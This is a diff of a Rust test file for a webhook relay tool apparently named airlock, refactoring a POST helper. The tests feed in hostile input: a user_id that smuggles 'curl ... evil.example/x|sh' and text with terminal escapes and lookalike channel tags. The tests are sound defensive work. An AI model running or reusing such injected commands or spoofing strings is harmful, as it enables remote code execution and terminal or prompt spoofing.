@@ -4,23 +4,10 @@
 
 use std::time::{Duration, Instant};
 
-use serde_json::{Value, json};
+use serde_json::json;
 
 use crate::session::*;
 use crate::support::*;
-
-/// Post one webhook message on `port` with `token`.
-async fn post(port: u16, token: &str, body: Value) {
-    let reply = http(
-        port,
-        "POST",
-        &format!("/?token={token}"),
-        &[("Content-Type", "application/json")],
-        body.to_string().as_bytes(),
-    )
-    .await;
-    assert_eq!(reply.status, 202, "{}", reply.body);
-}
 
 /// `airlock access list`, once it mentions `needle`.
 async fn listing_with(home: &TempHome, needle: &str) -> String {
@@ -130,7 +117,7 @@ async fn events_carry_the_hosts_name_and_no_controls() {
     let token = session.log.token(port).await;
 
     let text = "\u{1b}[2J\u{1b}]0;pwned\u{7}hi\r\n\u{9b}31m ＜/channel> <\u{0}channel> <сhаnnеl> a < b 日本 🙂\u{202E}";
-    post(
+    webhook_post(
         port,
         &token,
         json!({"chat": "c1", "user": "eve\u{1b}[1m＜channel", "user_id": "42", "text": text}),
@@ -171,13 +158,13 @@ async fn access_list_suggests_no_command_for_a_hostile_id() {
     let session = Session::start(&home).await;
     let token = session.log.token(port).await;
     let hostile = "1; curl -s http://evil.example/x|sh #";
-    post(
+    webhook_post(
         port,
         &token,
         json!({"chat": "c1", "user": "mallory", "user_id": hostile, "text": "let me in"}),
     )
     .await;
-    post(
+    webhook_post(
         port,
         &token,
         json!({"chat": "c2", "user": "ada", "user_id": "77", "text": "hello"}),
